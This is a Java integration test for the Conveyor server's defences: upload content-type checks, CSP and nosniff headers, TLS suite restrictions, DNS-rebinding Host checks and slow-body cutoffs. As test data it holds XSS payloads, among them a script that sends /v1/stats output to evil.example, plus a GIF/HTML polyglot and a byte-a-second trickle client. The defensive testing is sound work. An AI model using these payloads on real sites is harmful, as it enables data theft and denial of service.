package dev.conveyor.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import dev.conveyor.core.Json;
import dev.conveyor.core.testing.MeanColourClassifier;
import dev.conveyor.core.testing.TestImages;
import dev.conveyor.testing.TestTls;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.Executors;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.TimeUnit;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLException;
import javax.net.ssl.SSLSocket;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * What the server sends back, against the requests an attacker would send to the real server: an
 * HTML or SVG upload is never served back as a page; every answer says nosniff, the page and its
 * files carry a strict Content-Security-Policy and the gallery's images a sandbox; HTTPS offers TLS
 * 1.3, strong TLS 1.2 suites only, and HSTS; a foreign Host (DNS rebinding) gets 421; and a body
 * sent a byte a second is cut off.
 */
@Timeout(30)
class ServedContentIT {
  private static final String HTML =
      "<!DOCTYPE html><html><body><script>fetch('/v1/stats').then(r => r.text())"
          + ".then(t => new Image().src = 'https://evil.example/?' + t)</script></body></html>";
  private static final String SVG =
      "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>";
  private static final String XHTML =
      "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></html>";

  private final HttpClient http = HttpClient.newHttpClient();
  private final List<AutoCloseable> open = new ArrayList<>();
  @TempDir Path dir;

  @AfterEach
  void closeAll() throws Exception {
    for (int i = open.size() - 1; i >= 0; i--) {
      open.get(i).close();
    }
  }

  private ConveyorServer server(ServerConfig config) {
    return TestServers.embedded(config, new MeanColourClassifier(32, 32), 8, open);
  }

  @Test
  void anHtmlOrSvgUploadIsNeverServedBackAsAPage() throws Exception {
    ConveyorServer s = server(ServerSettings.defaults());
    Map<String, String> uploads = new LinkedHashMap<>();
    uploads.put("text/html", HTML);
    uploads.put("image/svg+xml", SVG);
    uploads.put("application/xhtml+xml", XHTML);
    int number = 0;
    for (Map.Entry<String, String> upload : uploads.entrySet()) {
      // curl -F "image=@x.html;type=text/html" …/v1/classify, then its gallery image
      byte[] body = upload.getValue().getBytes(StandardCharsets.UTF_8);
      assertThat(classify(s, multipart("x", upload.getKey(), body)).statusCode()).isEqualTo(415);
      Raw image = send(s, "GET /v1/recent/" + ++number + "/image", "127.0.0.1", new byte[0]);
      assertThat(image.status()).as(upload.getKey()).isEqualTo(404);
      assertThat(image.header("content-type")).startsWith("application/json");
      assertThat(json(image).at("/error/code").asText()).isEqualTo("NOT_FOUND");
      assertThat(image.text()).doesNotContain("<script>");
      assertThat(image.header("x-content-type-options")).isEqualTo("nosniff");
    }
    // the same as the body, declared an image
    HttpResponse<String> svgBody =
        http.send(
            HttpRequest.newBuilder(URI.create(base(s) + "/v1/classify"))
                .header("Content-Type", "image/svg+xml")
                .POST(HttpRequest.BodyPublishers.ofString(SVG))
                .build(),
            HttpResponse.BodyHandlers.ofString());
    assertThat(svgBody.statusCode()).isEqualTo(415);
    assertThat(send(s, "GET /v1/recent/" + ++number + "/image", "127.0.0.1", new byte[0]).status())
        .isEqualTo(404);
    JsonNode recent = json(send(s, "GET /v1/recent", "127.0.0.1", new byte[0])).get("results");
    assertThat(recent).hasSize(number);
    recent.forEach(r -> assertThat(r.get("image").isNull()).as("no address to fetch").isTrue());

    // a GIF with a page after its magic bytes, declared HTML: served as the GIF its bytes say,
    // in a sandbox, never as the declared type
    byte[] polyglot = ("GIF89a" + HTML).getBytes(StandardCharsets.UTF_8);
    classify(s, multipart("x.html", "text/html", polyglot));
    Raw gif = send(s, "GET /v1/recent/" + ++number + "/image", "127.0.0.1", new byte[0]);
    assertThat(gif.status()).isEqualTo(200);
    assertThat(gif.header("content-type")).isEqualTo("image/gif");
    assertThat(gif.header("content-security-policy")).isEqualTo("default-src 'none'; sandbox");
    assertThat(gif.header("x-content-type-options")).isEqualTo("nosniff");

    // a real image declared as HTML: served as what it is
    byte[] png = TestImages.bytes("palette-blue.png");
    assertThat(classify(s, multipart("blue.png", "text/html", png)).statusCode()).isEqualTo(200);
    Raw image = send(s, "GET /v1/recent/" + ++number + "/image", "127.0.0.1", new byte[0]);
    assertThat(image.status()).isEqualTo(200);
    assertThat(image.header("content-type")).isEqualTo("image/png");
    assertThat(image.body()).isEqualTo(png);
    assertThat(image.header("content-security-policy")).isEqualTo("default-src 'none'; sandbox");
  }

  @Test
  void everyAnswerSaysNosniffAndThePageHasAStrictPolicy() throws Exception {
    ConveyorServer s = server(ServerSettings.defaults());
    for (String path :
        List.of("/", "/app.js", "/app.css", "/webjars/chart.js/4.4.7/dist/chart.umd.js")) {
      Raw page = send(s, "GET " + path, "127.0.0.1", new byte[0]);
      assertThat(page.status()).as(path).isEqualTo(200);
      assertThat(page.header("x-content-type-options")).as(path).isEqualTo("nosniff");
      String policy = page.header("content-security-policy");
      assertThat(policy)
          .as(path)
          .contains("default-src 'self'")
          .contains("object-src 'none'")
          .contains("base-uri 'none'")
          .contains("frame-ancestors 'none'")
          .doesNotContain("unsafe-inline")
          .doesNotContain("unsafe-eval")
          .doesNotContain("*");
      assertThat(page.header("strict-transport-security")).as("plain HTTP: no HSTS").isNull();
    }
    assertThat(send(s, "GET /", "127.0.0.1", new byte[0]).text())
        .as("no inline script for the policy to allow")
        .doesNotContainPattern("<script>|<script(?![^>]*\\bsrc=)[^>]*>|\\son[a-z]+=");

    // JSON, Conveyor's errors, the router's and the path filter's 404s, and Jetty's own 400
    Map<String, Integer> answers = new LinkedHashMap<>();
    answers.put("GET /v1/info", 200);
    answers.put("GET /v1/jobs/no-such-job", 404);
    answers.put("GET /no-such-thing", 404);
    answers.put("GET //predict", 404);
    answers.put("POST /v1/classify", 400); // an empty body
    for (Map.Entry<String, Integer> a : answers.entrySet()) {
      Raw r = send(s, a.getKey(), "127.0.0.1", new byte[0]);
      assertThat(r.status()).as(a.getKey()).isEqualTo(a.getValue());
      assertThat(r.header("x-content-type-options")).as(a.getKey()).isEqualTo("nosniff");
      assertThat(r.header("content-security-policy")).as(a.getKey()).isNotNull();
    }
    Raw unparsable =
        raw(s, "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nNo-Colon-Here\r\n\r\n".getBytes());
    assertThat(unparsable.status()).isEqualTo(400);
    assertThat(unparsable.header("x-content-type-options")).isEqualTo("nosniff");
    assertThat(json(unparsable).at("/error/code").asText()).isEqualTo("BAD_REQUEST");
  }

  @Test
  void httpsOffersTls13AndStrongTls12SuitesOnlyAndSaysHsts() throws Exception {
    TestTls tls = TestTls.write(dir);
    ConveyorServer s =
        server(
            ServerSettings.defaults().withTls(new ServerConfig.Tls(tls.certificate(), tls.key())));
    SSLContext trusting = tls.trustingContext();

    assertThat(handshake(trusting, s, null, null)).isEqualTo("TLSv1.3");
    String strong =
        handshake(
            trusting,
            s,
            new String[] {"TLSv1.2"},
            new String[] {
              "TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256",
              "TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256",
              "TLS_ECDHE_RSA_WITH_CHACHA20_POLY1305_SHA256",
              "TLS_ECDHE_ECDSA_WITH_CHACHA20_POLY1305_SHA256"
            });
    assertThat(strong).isEqualTo("TLSv1.2");
    // suites a client still offers, which the server must not take: CBC, no forward secrecy, DHE
    for (String weak :
        List.of(
            "TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA256",
            "TLS_ECDHE_ECDSA_WITH_AES_128_CBC_SHA256",
            "TLS_ECDHE_RSA_WITH_AES_256_CBC_SHA",
            "TLS_RSA_WITH_AES_128_GCM_SHA256",
            "TLS_DHE_RSA_WITH_AES_128_GCM_SHA256")) {
      assertThatThrownBy(
              () -> handshake(trusting, s, new String[] {"TLSv1.2"}, new String[] {weak}))
          .as(weak)
          .isInstanceOf(SSLException.class)
          .as("refused by the server, not by this client")
          .hasMessageContaining("handshake_failure");
    }

    HttpResponse<String> info =
        HttpClient.newBuilder()
            .sslContext(trusting)
            .build()
            .send(
                HttpRequest.newBuilder(URI.create("https://127.0.0.1:" + s.port() + "/v1/info"))
                    .build(),
                HttpResponse.BodyHandlers.ofString());
    assertThat(info.statusCode()).isEqualTo(200);
    assertThat(info.headers().firstValue("strict-transport-security")).hasValue("max-age=31536000");
    assertThat(info.headers().firstValue("x-content-type-options")).hasValue("nosniff");
  }

  @Test
  void aForeignHostIsMisdirectedWhileTheLoopbackNamesAreAnswered() throws Exception {
    ConveyorServer s = server(ServerSettings.defaults());
    // a page on evil.example whose name now resolves to 127.0.0.1 (DNS rebinding)
    byte[] png = TestImages.bytes("palette-blue.png");
    for (String host :
        List.of("evil.example", "evil.example:" + s.port(), "127.0.0.1.evil.example")) {
      Raw refused = send(s, "POST /v1/classify", host, png);
      assertThat(refused.status()).as(host).isEqualTo(421);
      assertThat(json(refused).at("/error/code").asText()).isEqualTo("MISDIRECTED");
      assertThat(refused.text()).as("the name is not repeated").doesNotContain("evil");
      assertThat(refused.header("x-content-type-options")).isEqualTo("nosniff");
      assertThat(send(s, "GET /v1/stats", host, new byte[0]).status()).isEqualTo(421);
      assertThat(send(s, "GET /", host, new byte[0]).status()).isEqualTo(421);
    }
    for (String host :
        List.of("127.0.0.1", "localhost", "LOCALHOST:" + s.port(), "[::1]:" + s.port())) {
      assertThat(send(s, "GET /v1/info", host, new byte[0]).status()).as(host).isEqualTo(200);
    }
    JsonNode stats = json(send(s, "GET /v1/stats", "localhost", new byte[0]));
    assertThat(stats.at("/totals/requests").asLong())
        .as("the refused uploads went no further")
        .isZero();

    // the operator's own list replaces the default
    ConveyorServer named =
        server(ServerSettings.defaults().withAllowedHosts(List.of("conveyor.lan")));
    assertThat(send(named, "GET /v1/info", "conveyor.lan:8080", new byte[0]).status())
        .isEqualTo(200);
    assertThat(send(named, "GET /v1/info", "localhost", new byte[0]).status()).isEqualTo(421);
  }

  @Test
  void aBodySentAByteASecondIsCutOff() throws Exception {
    ConveyorServer s = server(ServerSettings.defaults());
    ScheduledExecutorService trickle = Executors.newScheduledThreadPool(1);
    open.add(trickle::shutdownNow);
    byte[] multipartHead =
        ("--b\r\nContent-Disposition: form-data; name=\"image\"; filename=\"x.png\"\r\n"
                + "Content-Type: image/png\r\n\r\n")
            .getBytes(StandardCharsets.ISO_8859_1);
    Map<String, String> requests = new LinkedHashMap<>();
    requests.put("POST /v1/classify", "image/png");
    requests.put("POST /predict", "multipart/form-data; boundary=b");
    List<Socket> sockets = new ArrayList<>();
    long start = System.nanoTime();
    for (Map.Entry<String, String> r : requests.entrySet()) {
      Socket socket = new Socket("127.0.0.1", s.port());
      open.add(socket);
      socket.setSoTimeout(20_000);
      OutputStream out = socket.getOutputStream();
      out.write(
          (r.getKey()
                  + " HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: "
                  + r.getValue()
                  + "\r\nContent-Length: 100000\r\n\r\n")
              .getBytes(StandardCharsets.ISO_8859_1));
      out.write(r.getValue().startsWith("multipart") ? multipartHead : new byte[] {(byte) 0x89});
      out.flush();
      // then one byte a second, for the 27 hours the rest would take
      trickle.scheduleAtFixedRate(
          () -> {
            try {
              out.write('x');
              out.flush();
            } catch (IOException closed) {
              throw new IllegalStateException("the server closed the connection", closed);
            }
          },
          1,
          1,
          TimeUnit.SECONDS);
      sockets.add(socket);
    }
    for (Socket socket : sockets) {
      Raw answer = Raw.read(socket.getInputStream());
      assertThat(answer.status()).as(answer.text()).isEqualTo(400);
      assertThat(json(answer).at("/error/message").asText()).contains("data rate");
      assertThat(socket.getInputStream().read()).as("and the connection is closed").isEqualTo(-1);
    }
    long seconds = TimeUnit.NANOSECONDS.toSeconds(System.nanoTime() - start);
    assertThat(seconds).as("cut off within seconds, not held open").isLessThan(6);
  }

  // ------------------------------------------------------------------------------- helpers

  private static String base(ConveyorServer s) {
    return "http://127.0.0.1:" + s.port();
  }

  /** A multipart body with one file part of the declared type, as curl -F sends it. */
  private static byte[] multipart(String filename, String type, byte[] content) {
    ByteArrayOutputStream body = new ByteArrayOutputStream();
    body.writeBytes(
        ("--b\r\nContent-Disposition: form-data; name=\"image\"; filename=\""
                + filename
                + "\"\r\nContent-Type: "
                + type
                + "\r\n\r\n")
            .getBytes(StandardCharsets.UTF_8));
    body.writeBytes(content);
    body.writeBytes("\r\n--b--\r\n".getBytes(StandardCharsets.UTF_8));
    return body.toByteArray();
  }

  private HttpResponse<String> classify(ConveyorServer s, byte[] multipart) throws Exception {
    return http.send(
        HttpRequest.newBuilder(URI.create(base(s) + "/v1/classify"))
            .header("Content-Type", "multipart/form-data; boundary=b")
            .POST(HttpRequest.BodyPublishers.ofByteArray(multipart))
            .build(),
        HttpResponse.BodyHandlers.ofString());
  }

  /** {@code "METHOD /path"} with this Host, over a plain socket: headers exactly as written. */
  private static Raw send(ConveyorServer s, String request, String host, byte[] body)
      throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(
        (request
                + " HTTP/1.1\r\nHost: "
                + host
                + "\r\nContent-Type: image/png\r\nContent-Length: "
                + body.length
                + "\r\nConnection: close\r\n\r\n")
            .getBytes(StandardCharsets.ISO_8859_1));
    out.writeBytes(body);
    return raw(s, out.toByteArray());
  }

  private static Raw raw(ConveyorServer s, byte[] request) throws IOException {
    try (Socket socket = new Socket("127.0.0.1", s.port())) {
      socket.setSoTimeout(10_000);
      socket.getOutputStream().write(request);
      socket.getOutputStream().flush();
      return Raw.read(socket.getInputStream());
    }
  }

  private static JsonNode json(Raw r) throws IOException {
    return Json.mapper().readTree(r.body());
  }

  /** An HTTP/1.1 answer: its status, headers (names in lower case) and body. */
  private record Raw(int status, Map<String, String> headers, byte[] body) {
    String header(String name) {
      return headers.get(name);
    }

    String text() {
      return new String(body, StandardCharsets.UTF_8);
    }

    /** Reads one answer, its body by its length, or to the end when it has none. */
    static Raw read(InputStream in) throws IOException {
      ByteArrayOutputStream head = new ByteArrayOutputStream();
      while (!head.toString(StandardCharsets.ISO_8859_1).endsWith("\r\n\r\n")) {
        int b = in.read();
        if (b < 0) {
          throw new IOException("the connection closed within the headers: " + head);
        }
        head.write(b);
      }
      String[] lines = head.toString(StandardCharsets.ISO_8859_1).split("\r\n");
      Map<String, String> headers = new LinkedHashMap<>();
      for (int i = 1; i < lines.length; i++) {
        int colon = lines[i].indexOf(':');
        headers.put(
            lines[i].substring(0, colon).strip().toLowerCase(Locale.ROOT),
            lines[i].substring(colon + 1).strip());
      }
      String length = headers.get("content-length");
      byte[] body = length != null ? in.readNBytes(Integer.parseInt(length)) : in.readAllBytes();
      return new Raw(Integer.parseInt(lines[0].split(" ")[1]), headers, body);
    }
  }

  /** The protocol a handshake offering these (or the client's defaults, for null) agrees on. */
  private static String handshake(
      SSLContext context, ConveyorServer s, String[] protocols, String[] suites)
      throws IOException {
    try (SSLSocket socket =
        (SSLSocket) context.getSocketFactory().createSocket("127.0.0.1", s.port())) {
      socket.setSoTimeout(10_000);
      if (protocols != null) {
        socket.setEnabledProtocols(protocols);
      }
      if (suites != null) {
        socket.setEnabledCipherSuites(suites);
      }
      socket.startHandshake();
      return socket.getSession().getProtocol();
    }
  }
}
